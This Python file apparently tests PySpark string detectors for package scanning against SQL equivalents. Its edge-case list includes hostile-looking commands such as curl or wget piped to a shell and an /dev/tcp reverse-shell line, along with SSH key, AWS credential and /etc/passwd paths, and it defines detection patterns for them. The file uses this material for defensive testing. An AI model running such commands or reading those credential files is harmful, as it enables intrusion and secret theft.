"""Scalar operators over strings of the tables: words, addresses, names, and a list of edge cases."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from causeway.functions import decoding, display, literals, names, paths
from causeway.runtime import table

#: Inert strings at the edges of the predicates.
EDGES = [
    "", " ", "/", "//", "C:", "c:\\", "~", "~/", "$HOME", "${HOME}/", "%USERPROFILE%", "/home/", "/Users", "/root/x",
    "~/.ssh", "~/.ssh/id_rsa", "$HOME/.ssh/x", ".ssh/id_rsa", ".sshx", "%USERPROFILE%\\.aws\\credentials", "/etc/passwd", "chroot/etc/passwd", "/etc/passwd2", ".env", "app/.env", "app/.envx",
    "http://host.invalid/a.sh", "https://pypi.org/simple", "https://user:pw@pypi.org/x", "https://PyPI.org:443/", "ftp://files.invalid", "http://", "https://host.invalid/{}/x", "see http://host.invalid", "curl -L 'https://host.invalid/a' -o x", "git clone https://pypi.org/x",
    "192.0.2.7", "192.0.2.7:8080", "192.0.2.256", "127.0.0.1", "0.0.0.0", "1.2.3", "1.2.3.4.5", "203.0.113.9:", " 198.51.100.1 ", "+1.2.3.4",
    "curl http://h.invalid | sh", "wget x|/bin/bash -c y", "curl x | tee", "exec 3<>/dev/tcp/192.0.2.1/80", "CURL A |  ZSH", "curl a", "x | sh",
    "1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "0x52908400098527886E0F7030069857D2E4169EE7", "0x5290", "3short", "1BoatSLRHtKNngkdXEeobR76b53LETtp0T",
    "\\x65\\x76\\x61\\x6c", "\\145\\166\\141\\154", "\\u0065\\u0076\\u0061\\u006c", "\\x1b[31m\\x1b[0m", "ab\\x65\\x76\\x61\\x6ccdefgh", "\\x65\\x76", "\\n\\t\\r\\0",
    "aGVsbG8=", "aGVsbG8", "aGVs bG8=", "a", "_-8=", "+/8=", "aGVsbG8*", "68656c6c6f", "68 65", "686", "zz",
    "requests[socks]>=2; python_version < '3.12'", "pkg @ https://host.invalid/p", "-bad", "Friendly_Bard.Tool", "a", "x-", "a b", "numpy>=1.2 ; extra == 'x'", "A..B__c",
    "demo-1.0.tar.gz", "a-b-2.0rc1.tar.gz", "demo.tar.gz", "-1.0.tar.gz", "demo-.tar.gz", "demo-1.0.zip",
    "os.path.join", "os.pathx", "os", "requests.get", "subprocess.run", "osx.environ",
    "setup.py", "src/setup.py", "pyproject.toml", "a/pyproject.toml", "pkg/__init__.py", "src/pkg/__init__.py", "mod.py", "README",
    "../x", "a/../b", "a\\..\\b", "./", ".", "C:x", "\\\\srv\\x", "./a//b/./c", "a\\b",
    "tab\there", "bell\x07", "esc\x1b[2J", "rtl\u202eabc", "a\u0085b", "two\n  lines", "é" * 130, "x" * 121,
]

SENSITIVE = ("~/.ssh", "~/.aws", "/etc/passwd", ".env")
PREFIXES = ("os", "os.path", "requests", "subprocess", "org", "com.example", "net")


def _quoted(s: str) -> str:
    return "'" + s.replace("'", "''") + "'"


EDGE_SQL = "(VALUES " + ", ".join(f"({_quoted(s)})" for s in dict.fromkeys(EDGES)) + ") AS e(v)"
#: All distinct words, addresses and edge cases.
PROBES_SQL = f"""(
  SELECT DISTINCT v FROM (
    SELECT unnest(string_split(replace(replace(text, chr(10), ' '), chr(9), ' '), ' ')) AS v FROM documents
    UNION ALL SELECT url FROM pages
    UNION ALL SELECT v FROM {EDGE_SQL}) WHERE v IS NOT NULL)"""


def edges(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame([(s,) for s in dict.fromkeys(EDGES)], "v string")


def probes(spark: SparkSession, sf_dir: str) -> DataFrame:
    words = table(spark, sf_dir, "documents").select(F.explode(F.split(F.translate("text", "\n\t", "  "), " ")).alias("v"))
    return words.union(table(spark, sf_dir, "pages").select("url")).union(edges(spark)).where("v is not null").distinct()


def m_literal_shapes(spark: SparkSession, sf_dir: str) -> DataFrame:
    v = F.col("v")
    return probes(spark, sf_dir).select(
        "v",
        *[literals.sensitive_path(p, v).alias(f"sensitive_{k}") for k, p in enumerate(SENSITIVE)],
        literals.url_not_index(v).alias("url_not_index"),
        literals.command_with_url(v).alias("command_with_url"),
        literals.raw_ip(v).alias("raw_ip"),
        literals.shell_pipeline(v).alias("shell_pipeline"),
        literals.wallet_address(v).alias("wallet_address"),
        literals.home_or_root(v).alias("home_or_root"),
        literals.official_index(v).alias("official_index"),
    )


_TRIM = r"regexp_replace(v, '^[\t-\r ]+|[\t-\r ]+$', '', 'g')"
_NORM = f"replace({_TRIM}, chr(92), '/')"
_REST = f"regexp_replace({_NORM}, '^(~|\\$HOME|\\$\\{{HOME\\}}|%USERPROFILE%)/', '')"


def _sensitive_sql(p: str) -> str:
    if p.startswith("~/"):
        return f"({_REST} = '{p[2:]}' OR starts_with({_REST}, '{p[2:]}/'))"
    return f"({_NORM} = '{p}' OR starts_with({_NORM}, '{p}/') OR suffix({_NORM}, '/{p}'))"


def _url_sql(v: str) -> str:
    host = rf"lower(regexp_extract(regexp_replace({v}, '^[\t-\r ]+|[\t-\r ]+$', '', 'g'), '^(?:https?|ftp)://(?:[^/?#]*@)?([^/?#:@]*)', 1))"
    return f"(NOT contains({v}, '{{') AND {host} <> '' AND {host} NOT IN ('pypi.org', 'files.pythonhosted.org', 'test.pypi.org'))"


_WORDS = r"list_filter(regexp_split_to_array(v, '[\t-\r ]+'), lambda w: w <> '')"
_PROGRAM = r"regexp_extract(s, '^[\t-\r ]*(?:[^\t-\r ]*/)?([^\t-\r /]*)', 1)"
_HOST = rf"regexp_replace({_TRIM}, ':[0-9]+$', '')"

SHAPES_SQL = f"""SELECT v, {", ".join(f"{_sensitive_sql(p)} AS sensitive_{k}" for k, p in enumerate(SENSITIVE))},
  {_url_sql("v")} AS url_not_index,
  len({_WORDS}) >= 2 AND len(list_filter(list_transform({_WORDS}, lambda w: trim(w, chr(34) || chr(39) || '`')), lambda w: {_url_sql("w")})) > 0 AS command_with_url,
  regexp_full_match({_HOST}, '\\+?[0-9]{{1,3}}(\\.\\+?[0-9]{{1,3}}){{3}}') AND len(list_filter(string_split({_HOST}, '.'), lambda p: length(p) > 3 OR coalesce(TRY_CAST(p AS INTEGER), 256) > 255)) = 0
    AND NOT starts_with({_HOST}, '127.') AND {_HOST} <> '0.0.0.0' AS raw_ip,
  ((contains(lower(v), 'curl ') OR contains(lower(v), 'wget ')) AND len(list_filter(string_split(lower(v), '|')[2:], lambda s: {_PROGRAM} IN ('sh', 'bash', 'zsh', 'python', 'python3'))) > 0) OR contains(lower(v), '/dev/tcp/') AS shell_pipeline,
  regexp_full_match({_TRIM}, '[13][1-9A-HJ-NP-Za-km-z]{{25,34}}|bc1[a-z0-9]{{11,71}}|0x[0-9a-fA-F]{{40}}') AS wallet_address,
  {_NORM} <> '' AND (regexp_full_match(rtrim({_NORM}, '/'), '[A-Za-z]:') OR rtrim({_NORM}, '/') IN ('', '~', '$HOME', '${{HOME}}', '%USERPROFILE%', '/home', '/root', '/Users')) AS home_or_root,
  NOT contains(regexp_extract(v, '^https://([^/?#]*)', 1), '@') AND regexp_extract(regexp_extract(v, '^https://([^/?#]*)', 1), '^([^:]*)', 1) IN ('pypi.org', 'files.pythonhosted.org', 'test.pypi.org') AS official_index
FROM {PROBES_SQL}"""


def io_names(spark: SparkSession, sf_dir: str) -> DataFrame:
    own = table(spark, sf_dir, "part").select(F.concat("p_name", F.lit("-"), F.col("p_size").cast("string"), F.lit(".0.tar.gz")).alias("v"))
    rows = probes(spark, sf_dir).union(own).union(table(spark, sf_dir, "supplier").select(F.concat("s_name", F.lit("[x]>=1; m")))).distinct()
    v = F.col("v")
    return rows.select(
        "v",
        names.package_name(v).alias("package"),
        names.sdist_name(v).alias("sdist"),
        names.sdist_version(v).alias("version"),
        names.requirement_name(v).alias("requirement"),
        names.requirement_optional(v).alias("optional"),
    )


def _package_sql(v: str) -> str:
    return f"CASE WHEN regexp_full_match({v}, '[A-Za-z0-9]([A-Za-z0-9._-]*[A-Za-z0-9])?') THEN lower(regexp_replace({v}, '[-_.]+', '-', 'g')) END"


NAMES_SQL = f"""SELECT v, {_package_sql("v")} AS package,
  nullif(regexp_extract(v, '^(.+)-([^-]+)\\.tar\\.gz$', 1), '') AS sdist, nullif(regexp_extract(v, '^(.+)-([^-]+)\\.tar\\.gz$', 2), '') AS version,
  {_package_sql("regexp_extract(trim(v), '^([A-Za-z0-9._-]*)', 1)")} AS requirement, contains(v, ';') AS optional
FROM (SELECT DISTINCT v FROM (SELECT v FROM {PROBES_SQL} UNION ALL SELECT p_name || '-' || p_size || '.0.tar.gz' FROM part UNION ALL SELECT s_name || '[x]>=1; m' FROM supplier))"""


def io_paths(spark: SparkSession, sf_dir: str) -> DataFrame:
    v = F.col("v")
    member = F.regexp_replace("url", "^[a-z]+://[^/]*", "")
    rows = table(spark, sf_dir, "pages").select(member.alias("v")).union(edges(spark)).distinct()
    kind = F.element_at(F.array(*map(F.lit, ("file", "directory", "symlink", "hardlink", "other"))), (F.length("v") % 5 + 1).cast("int"))
    return rows.select("v", paths.classify(v).alias("kind"), paths.normalise_entry(v).alias("normal"), paths.entry_error(v, kind).alias("error"), paths.entry_error(v, F.lit("file")).alias("file_error"))


_PARTS = "list_filter(regexp_split_to_array(v, '[/\\\\]'), lambda p: p <> '' AND p <> '.')"


def _entry_sql(kind: str) -> str:
    return f"""CASE WHEN regexp_matches(v, '^([/\\\\]|[A-Za-z]:)') THEN 'absolute_path' WHEN list_contains({_PARTS}, '..') THEN 'path_traversal'
      WHEN len({_PARTS}) = 0 AND {kind} <> 'directory' THEN 'path_traversal' WHEN {kind} IN ('symlink', 'hardlink') THEN 'link_entry' WHEN {kind} NOT IN ('file', 'directory') THEN 'unsupported_entry' END"""


PATHS_SQL = f"""SELECT v, CASE WHEN v = 'setup.py' THEN 'setup_py' WHEN v = 'pyproject.toml' THEN 'pyproject_toml' WHEN suffix(v, '.py') THEN 'python' END AS kind,
  array_to_string({_PARTS}, '/') AS normal, {_entry_sql("(['file', 'directory', 'symlink', 'hardlink', 'other'])[length(v) % 5 + 1]")} AS error, {_entry_sql("'file'")} AS file_error
FROM (SELECT DISTINCT v FROM (SELECT regexp_replace(url, '^[a-z]+://[^/]*', '') AS v FROM pages UNION ALL SELECT v FROM {EDGE_SQL}))"""


def m01_dotted_prefix(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Reversed hosts and edge cases against a list of prefixes, as a hash join on exploded prefixes."""
    host = F.regexp_extract("url", "^[a-z]+://([^/]*)", 1)
    rows = table(spark, sf_dir, "pages").select(F.array_join(F.reverse(F.split(host, r"\.")), ".").alias("name")).union(edges(spark)).distinct()
    prefixes = spark.createDataFrame([(p, k) for k, p in enumerate(PREFIXES)], "prefix string, rank int")
    met = rows.select("name", F.explode(names.dotted_prefixes(F.col("name"))).alias("prefix")).join(F.broadcast(prefixes), "prefix")
    return met.groupBy("name").agg(F.min_by("prefix", "rank").alias("first_prefix"), F.count(F.lit(1)).alias("matches"))


PREFIX_SQL = f"""WITH n AS (SELECT DISTINCT name FROM (SELECT array_to_string(list_reverse(string_split(regexp_extract(url, '^[a-z]+://([^/]*)', 1), '.')), '.') AS name FROM pages UNION ALL SELECT v FROM {EDGE_SQL})),
p(prefix, rank) AS (VALUES {", ".join(f"('{p}', {k})" for k, p in enumerate(PREFIXES))})
SELECT name, min_by(prefix, rank) AS first_prefix, count(*) AS matches FROM n JOIN p ON name = prefix OR starts_with(name, prefix || '.') GROUP BY name"""


def m15_escapes(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Words as they are, and every word spelt in escapes, so that both outcomes occur."""
    words = probes(spark, sf_dir).where(F.length("v") <= 60)
    spelt = words.where("v rlike '^[a-z]{1,8}$'").select(F.regexp_replace(F.hex("v"), "(..)", r"\\x$1").alias("v"))
    return words.union(spelt).distinct().select("v", literals.escape_encoded(F.col("v")).alias("encoded"))


_TOKENS = r"regexp_extract_all(v, '(?s)\\x.{2}|\\u.{4}|\\[0-7]{1,3}|\\.|.')"
ESCAPES_SQL = rf"""WITH w AS (SELECT v FROM {PROBES_SQL} WHERE length(v) <= 60),
t AS (SELECT v, {_TOKENS} AS tokens FROM (SELECT v FROM w UNION SELECT regexp_replace(hex(v), '(..)', '\\x\1', 'g') FROM w WHERE regexp_full_match(v, '[a-z]{{1,8}}'))),
g AS (SELECT v, tokens, len(list_filter(tokens, lambda x: regexp_full_match(x, '\\x([2-6][0-9a-fA-F]|7[0-9a-eA-E])|\\u\+?0?0([2-6][0-9a-fA-F]|7[0-9a-eA-E])|\\(0?4[0-7]|0?[5-7][0-7]|1[0-6][0-7]|17[0-6])') AND (x[2] <> 'u' OR length(x) = 6))) AS good FROM t)
SELECT v, good >= 4 AND good * 2 >= coalesce(list_sum(list_transform(tokens, lambda x: CASE WHEN x[1] = chr(92) THEN 1 ELSE strlen(x) END)), 0) AS encoded FROM g"""


def d_decoding(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Round trips over whole texts, and edge cases."""
    text = F.coalesce("text", F.lit(""))
    docs = table(spark, sf_dir, "documents").select(F.concat(F.lit("doc "), F.col("doc_id").cast("string")).alias("v"), F.base64(text.cast("binary")).alias("b64"), F.hex(text).alias("hexed"), text.alias("plain"))
    rows = docs.union(edges(spark).select("v", "v", "v", "v"))
    text_of = lambda c: F.sha2(c, 256)
    return rows.select(
        "v",
        text_of(decoding.base64_decode(F.regexp_replace("b64", r"\r\n", ""))).alias("base64_sha"),
        text_of(decoding.base64_decode(F.translate("b64", "+/", "-_"), urlsafe=True)).alias("urlsafe_sha"),
        text_of(decoding.hex_decode(F.col("hexed"))).alias("hex_sha"),
        F.md5(decoding.rot13(F.col("plain")).cast("binary")).alias("rot13_md5"),
        F.md5(decoding.reversed_text(F.col("plain")).cast("binary")).alias("reversed_md5"),
    )


_BARE64 = r"regexp_replace(b64, '[\t-\r =]', '', 'g')"


def _b64_sql(bare: str, alphabet: str, plain: str) -> str:
    return f"CASE WHEN regexp_full_match({bare}, '[{alphabet}]*') AND length({bare}) % 4 <> 1 THEN sha256(from_base64(rpad({plain}, (4 * ceil(length({plain}) / 4))::INTEGER, '='))) END"


_BARE16 = r"regexp_replace(hexed, '[\t-\r ]', '', 'g')"
_ROT_TO = "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm"
DECODING_SQL = f"""WITH r AS (SELECT 'doc ' || doc_id AS v, to_base64(encode(coalesce(text, ''))) AS b64, hex(coalesce(text, '')) AS hexed, coalesce(text, '') AS plain FROM documents
  UNION ALL SELECT v, v, v, v FROM {EDGE_SQL})
SELECT v, {_b64_sql(_BARE64, "A-Za-z0-9+/", _BARE64)} AS base64_sha,
  {_b64_sql(_BARE64.replace("b64", "translate(b64, '+/', '-_')"), "A-Za-z0-9_-", "translate(" + _BARE64.replace("b64", "translate(b64, '+/', '-_')") + ", '-_', '+/')")} AS urlsafe_sha,
  CASE WHEN regexp_full_match({_BARE16}, '([0-9a-fA-F]{{2}})*') THEN sha256(unhex({_BARE16})) END AS hex_sha,
  md5(translate(plain, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz', '{_ROT_TO}')) AS rot13_md5, md5(reverse(plain)) AS reversed_md5
FROM r"""


def d05_chr_join(spark: SparkSession, sf_dir: str) -> DataFrame:
    codes = F.array((F.col("p_partkey") % 55000 + 32).cast("int"), (F.col("p_size") + 64).cast("int"), (F.col("p_partkey") * 97 % 60000 + 65536).cast("int"))
    return table(spark, sf_dir, "part").select("p_partkey", decoding.chr_join(codes).alias("joined"))


D05_SQL = "SELECT p_partkey, chr((p_partkey % 55000 + 32)::INTEGER) || chr((p_size + 64)::INTEGER) || chr((p_partkey * 97 % 60000 + 65536)::INTEGER) AS joined FROM part"


def v_display(spark: SparkSession, sf_dir: str) -> DataFrame:
    texts = table(spark, sf_dir, "documents").select(F.concat(F.lit("doc "), F.col("doc_id").cast("string")).alias("k"), F.coalesce("text", F.lit("")).alias("v"))
    rows = texts.union(edges(spark).select("v", "v"))
    v = F.col("v")
    return rows.select("k", F.md5(display.terminal_safe(v).cast("binary")).alias("safe_md5"), display.one_line(v, 60).alias("line"), F.md5(display.clip(v, 120).cast("binary")).alias("clip_md5"))


_HOSTILE = r"[\x00-\x1f\x7f-\x9f\x{061c}\x{200e}\x{200f}\x{202a}-\x{202e}\x{2066}-\x{2069}]"


def _safe_sql(v: str) -> str:
    return f"array_to_string(list_transform(string_split({v}, ''), lambda c: CASE WHEN regexp_matches(c, '{_HOSTILE}') THEN chr(92) || 'u{{' || lower(printf('%x', unicode(c))) || '}}' ELSE c END), '')"


_FLAT = r"trim(regexp_replace(v, '[\t-\r \x{85}\x{a0}\x{1680}\x{2000}-\x{200a}\x{2028}\x{2029}\x{202f}\x{205f}\x{3000}]+', ' ', 'g'), ' ')"
DISPLAY_SQL = f"""SELECT k, md5({_safe_sql("v")}) AS safe_md5, {_safe_sql(f"CASE WHEN length({_FLAT}) > 60 THEN left({_FLAT}, 60) || '…' ELSE {_FLAT} END")} AS line,
  md5(CASE WHEN length(v) > 120 THEN left(v, 120) || '…' ELSE v END) AS clip_md5
FROM (SELECT 'doc ' || doc_id AS k, coalesce(text, '') AS v FROM documents UNION ALL SELECT v, v FROM {EDGE_SQL})"""


BINDINGS = {
    "m07_m13_literal_shapes": (m_literal_shapes, SHAPES_SQL),
    "io04_io05_b01_names": (io_names, NAMES_SQL),
    "io01_io06_io07_paths": (io_paths, PATHS_SQL),
    "m01_dotted_prefix": (m01_dotted_prefix, PREFIX_SQL),
    "m15_escape_encoded": (m15_escapes, ESCAPES_SQL),
    "d01_d04_decoding": (d_decoding, DECODING_SQL),
    "d05_chr_join": (d05_chr_join, D05_SQL),
    "v02_v03_display": (v_display, DISPLAY_SQL),
}
